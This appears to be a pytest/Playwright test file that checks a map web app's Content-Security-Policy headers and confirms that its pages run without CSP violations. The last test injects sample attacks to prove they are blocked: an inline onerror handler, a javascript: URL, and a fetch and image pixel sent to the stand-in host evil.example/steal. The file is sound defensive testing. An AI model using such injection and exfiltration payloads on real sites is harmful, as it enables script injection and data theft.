"""The Content-Security-Policy in Chromium: every page works under its policy with no violation reported
(``securitypolicyviolation`` events and console messages, in every frame), and the policy is enforced:
injected handlers, ``eval``, foreign requests and images are refused."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from e2e_support import RIDER_AT, Server

pytestmark = pytest.mark.slow

WATCH = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push(`${e.effectiveDirective} blocked ${e.blockedURI || "inline"} ${e.sample || ""}`.trim());
});
"""
"""Collects the violations each frame's document reports (runs in every frame before its scripts)."""


def watched(new_page: Callable[..., Any], **options: Any) -> tuple[Any, list[str]]:
    """A page (from the conftest's ``new_page``) recording CSP violations; also the console's CSP messages."""
    page = new_page(**options)
    page.add_init_script(WATCH)
    console: list[str] = []

    def on_console(message: Any) -> None:
        if "Content Security Policy" in message.text:
            console.append(message.text)

    page.on("console", on_console)
    return page, console


def violations(page: Any, console: list[str]) -> list[str]:
    found = [v for frame in page.frames for v in frame.evaluate("window.__csp || []")]
    return found + console


def directives(policy: str) -> dict[str, list[str]]:
    return {name: sources for name, *sources in (part.split() for part in policy.split(";"))}


def test_the_rider_page_works_under_its_policy(new_page: Callable[..., Any], server: Server) -> None:
    policy = directives(server.get("/").headers["content-security-policy"])
    assert policy["default-src"] == ["'none'"] and policy["connect-src"] == ["'self'"]
    assert policy["script-src"] and all(source.startswith("'sha256-") for source in policy["script-src"])
    assert "'unsafe-inline'" not in policy["style-src"] and "'unsafe-eval'" not in policy["script-src"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'none'"]
    page, console = watched(
        new_page, geolocation={"longitude": RIDER_AT[0], "latitude": RIDER_AT[1]}, permissions=["geolocation"]
    )
    page.goto(server.url + "/")
    page.wait_for_selector(".yz-item")  # fetched /stations/nearby and /districts: connect-src 'self'
    page.locator(".yz-pick").first.click()  # marker highlighting and the popup
    page.locator("#yz-lang").click()
    page.wait_for_selector("html[lang=en]")
    page.locator("#yz-open-now").check()
    page.wait_for_timeout(300)
    assert page.locator(".leaflet-tile").count() > 0  # tiles were asked for (then aborted by the test's router)
    assert violations(page, console) == []


def test_the_embed_and_its_builder_work_under_their_policies(new_page: Callable[..., Any], server: Server) -> None:
    embed = directives(server.get("/embed").headers["content-security-policy"])
    assert embed["frame-ancestors"] == [server.settings.frame_ancestors]
    builder = directives(server.get("/embed/builder").headers["content-security-policy"])
    assert builder["frame-src"] == ["'self'"] and builder["frame-ancestors"] == ["'none'"]
    page, console = watched(new_page, viewport={"width": 1000, "height": 900})
    page.goto(server.url + "/embed/builder")
    preview = page.frame_locator("#yb-preview iframe")
    preview.locator(".yz-pin").first.wait_for()  # the preview frames /embed (frame-src 'self')
    page.select_option("#yb-lang", "en")
    page.frame_locator("#yb-preview iframe").locator(".yz-legend-count").wait_for()
    assert 'style="border: 0px;' in page.locator("#yb-snippet").input_value()
    assert violations(page, console) == []


OPEN_EVERY_POPUP = """() => {
  const map = Object.values(window).find((value) => value instanceof L.Map);
  let opened = 0;
  map.eachLayer((layer) => {
    const at = () => (layer.getLatLng ? layer.getLatLng() : layer.getBounds().getCenter());
    for (const kind of ["Popup", "Tooltip"]) {
      if (layer[`get${kind}`] && layer[`get${kind}`]()) {
        layer[`open${kind}`](at());
        opened += 1;
        layer[`close${kind}`]();
      }
    }
  });
  return opened;
}"""


def test_the_coverage_map_works_under_its_policy(new_page: Callable[..., Any], server: Server) -> None:
    page, console = watched(new_page, viewport={"width": 1000, "height": 800})
    page.goto(server.url + "/maps/coverage?adcode=330106&limit=5")
    page.wait_for_selector(".leaflet-overlay-pane canvas")
    page.wait_for_selector(".yizhan-box")
    assert page.evaluate(OPEN_EVERY_POPUP) > 0
    toggles = page.locator(".leaflet-control-layers-overlays input")
    page.locator(".leaflet-control-layers").hover()
    for index in range(toggles.count()):
        toggles.nth(index).click()
    assert violations(page, console) == []


def test_the_api_docs_load_their_cdn_scripts_and_start(new_page: Callable[..., Any], server: Server) -> None:
    """Swagger UI comes from cdn.jsdelivr.net, which the tests cannot reach: a stub stands in for it, so this
    checks what the policy allows (the CDN script and the inline start-up script), not Swagger UI itself."""
    page, console = watched(new_page)
    stub = "window.SwaggerUIBundle = (config) => { document.body.dataset.spec = config.url; };"
    stub += "SwaggerUIBundle.presets = {apis: 1}; SwaggerUIBundle.SwaggerUIStandalonePreset = 2;"
    page.route(
        "https://cdn.jsdelivr.net/**",
        lambda route: route.fulfill(
            body=stub if route.request.url.endswith(".js") else "body {}",
            content_type="text/javascript" if route.request.url.endswith(".js") else "text/css",
        ),
    )
    page.goto(server.url + "/docs")
    page.wait_for_selector("body[data-spec='/openapi.json']", state="attached")
    assert violations(page, console) == []


def test_the_policy_refuses_injected_code_and_foreign_requests(new_page: Callable[..., Any], server: Server) -> None:
    page, console = watched(new_page)
    page.goto(server.url + "/")
    page.wait_for_selector(".folium-map")
    outcome = page.evaluate(
        """async () => {
          document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.__ran = 1">');
          const link = document.createElement("a");
          link.href = "javascript:window.__ran = 2";
          document.body.append(link);
          link.click();
          let fetched;
          try { await fetch("https://evil.example/steal"); fetched = "sent"; } catch (error) { fetched = "refused"; }
          new Image().src = "https://evil.example/pixel.png";
          await new Promise((done) => setTimeout(done, 300));
          return {ran: window.__ran ?? null, fetched};
        }"""
    )
    assert outcome == {"ran": None, "fetched": "refused"}
    found = " | ".join(violations(page, console))
    for directive in ("script-src-attr", "script-src-elem", "connect-src", "img-src"):  # handler, javascript: URL...
        assert f"{directive} blocked" in found, found
